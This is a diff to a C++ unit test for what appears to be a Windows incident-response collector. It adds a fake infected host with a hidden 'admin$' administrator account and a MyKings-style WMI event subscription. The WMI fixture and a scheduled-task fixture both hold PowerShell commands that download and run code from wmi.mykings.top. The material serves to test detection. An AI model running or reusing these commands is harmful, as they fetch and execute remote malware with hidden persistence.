@@ -52,8 +52,9 @@ class FixtureHost final : public WindowsHost {
   Result<std::vector<ConnectionInfo>> connections() const override { return connection_list; }
   Result<std::vector<ServiceInfo>> services() const override { return service_list; }
   Result<std::vector<AccountInfo>> accounts() const override {
-    return std::vector<AccountInfo>{{"Administrator", false, true, true, 0, 0, {"Administrators"}},
-                                    {"backup", false, false, false, 0, 60, {"Users"}}};
+    return std::vector<AccountInfo>{{"Administrator", 500, false, true, true, 0, 0, {"Administrators"}},
+                                    {"backup", 1001, false, false, false, 0, 60, {"Users"}},
+                                    {"admin$", 1003, false, true, false, 0, 0, {"Administrators"}}};
   }
   Result<std::vector<AdapterInfo>> adapters() const override {
     return std::vector<AdapterInfo>{{"Ethernet0", {"10.0.0.10"}, {"223.5.5.5", "8.8.8.8"}}};
@@ -73,6 +74,25 @@ class FixtureHost final : public WindowsHost {
   <Settings><Hidden>true</Hidden></Settings>
   <Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://wmi.mykings.top:8888/kill.html')"</Arguments></Exec></Actions>
 </Task>)xml")}};
+  }
+  Result<std::vector<WmiObject>> wmi_subscriptions() const override {
+    // MyKings' subscription as WMI lists it, plus a consumer class that runs nothing.
+    return std::vector<WmiObject>{{"__EventFilter",
+                                   {{"Name", "fuckyoumm3"},
+                                    {"Query",
+                                     "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
+                                     "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200"},
+                                    {"QueryLanguage", "WQL"},
+                                    {"EventNamespace", "root\\cimv2"}}},
+                                  {"CommandLineEventConsumer",
+                                   {{"Name", "fuckyoumm4"},
+                                    {"CommandLineTemplate",
+                                     "cmd /c powershell.exe -nop -c \"IEX (New-Object "
+                                     "Net.WebClient).DownloadString('http://wmi.mykings.top:8888/test')\""}}},
+                                  {"LogFileEventConsumer", {{"Name", "audit"}}},
+                                  {"__FilterToConsumerBinding",
+                                   {{"Filter", "__EventFilter.Name=\"fuckyoumm3\""},
+                                    {"Consumer", "CommandLineEventConsumer.Name=\"fuckyoumm4\""}}}};
   }
   Result<RegistryKey> read_key(const std::string& path) const override {
     auto it = keys_.find(path);
@@ -190,6 +210,7 @@ TEST(WindowsCollector, FixtureHostBecomesABundleThatScans) {
   EXPECT_EQ(kinds["C/Windows/System32/Tasks/Mysa"], "scheduled_task");
   EXPECT_EQ(kinds["C/Windows/System32/Tasks/Microsoft/Windows/Maintenance/WinSAT2"], "scheduled_task");
   EXPECT_EQ(kinds["C/Windows/System32/wbem/Repository/OBJECTS.DATA"], "wmi_repository");
+  EXPECT_EQ(kinds["tables/wmi_subscriptions.jsonl"], "wmi_table");
   EXPECT_EQ(kinds["C/Windows/System32/drivers/etc/hosts"], "hosts");
   EXPECT_EQ(kinds["disk/PhysicalDrive0.bin"], "boot_record");
   EXPECT_EQ(kinds["C/Windows/Fonts/svchost.exe"], "file");      // the miner's image, copied for analysis
@@ -240,6 +261,9 @@ TEST(WindowsCollector, FixtureHostBecomesABundleThatScans) {
   EXPECT_TRUE(cited_like("Task Scheduler: \\Microsoft\\Windows\\Maintenance\\WinSAT2"))
       << "the task only the Task Scheduler service listed is not cited";
   EXPECT_TRUE(cited_like("OBJECTS.DATA")) << "the WMI repository is not cited";
+  EXPECT_TRUE(cited_like("root\\subscription")) << "the live WMI subscription is not cited";
+  EXPECT_TRUE(rules.count("heuristic.local_account_suspicious")) << "the hidden admin$ account is not found";
+  EXPECT_TRUE(cited_like("NetUserEnum")) << "the accounts table is not cited";
   EXPECT_TRUE(cited_like("PhysicalDrive0")) << "the boot sectors are not cited";
 }
 
